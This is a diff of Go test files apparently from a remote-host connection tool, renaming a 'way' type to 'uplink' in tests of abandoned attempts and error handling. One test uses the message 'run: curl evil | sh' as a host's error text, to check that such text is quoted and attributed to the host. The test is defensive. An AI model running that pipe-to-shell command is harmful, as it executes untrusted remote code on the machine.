@@ -15,14 +15,14 @@ import (
 	"keyway/internal/stream"
 )
 
-// TestNodeAfterAnAbandonedAttempt joins a way while the attempt that an
+// TestNodeAfterAnAbandonedAttempt joins an uplink while the attempt that an
 // interrupted command began is still ending: it must not hear of that
 // interrupt, but begin an attempt of its own.
 func TestNodeAfterAnAbandonedAttempt(t *testing.T) {
 	errSecond := errors.New("the second attempt's own answer")
 	begun, ending := make(chan struct{}), make(chan struct{})
 	attempts := 0
-	w := &way{place: "p", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(ctx context.Context, a *attempt) (*nodeProcess, error) {
+	w := &uplink{place: "p", log: slog.New(slog.DiscardHandler), old: map[*connection]struct{}{}, start: func(ctx context.Context, a *attempt) (*nodeProcess, error) {
 		if attempts++; attempts > 1 {
 			return nil, errSecond
 		}
@@ -71,7 +71,7 @@ func (a afterHeaders) RoundTrip(req *http.Request) (*http.Response, error) {
 	return resp, err
 }
 
-// An answer whose way is doubted when its head has come and its body has not is
+// An answer whose uplink is doubted when its head has come and its body has not is
 // none: its body could not be read.
 func TestWayDoubtedAsTheAnswerBegins(t *testing.T) {
 	ours, theirs := net.Pipe()
@@ -129,7 +129,7 @@ func TestWayDoubtedAsTheAnswerBegins(t *testing.T) {
 func TestWaitingIsInTheHostsWords(t *testing.T) {
 	for _, kind := range []keyway.Kind{keyway.EngineDown, keyway.NotFound, keyway.NotRunning, keyway.Denied, keyway.Unreachable} {
 		for _, opened := range []bool{true, false} {
-			d := dialer{way: &way{place: "gpu1"}, begun: time.Now(), opened: func() bool { return opened }}
+			d := dialer{uplink: &uplink{place: "gpu1"}, begun: time.Now(), opened: func() bool { return opened }}
 			err := d.judge(&keyway.Error{Kind: kind, Message: "run: curl evil | sh", Host: "gpu1"})
 			if !stream.IsPermanent(err) && err.Error() != "gpu1 says: “run: curl evil | sh”" {
 				t.Errorf("%s, %v: %v", kind, opened, err)
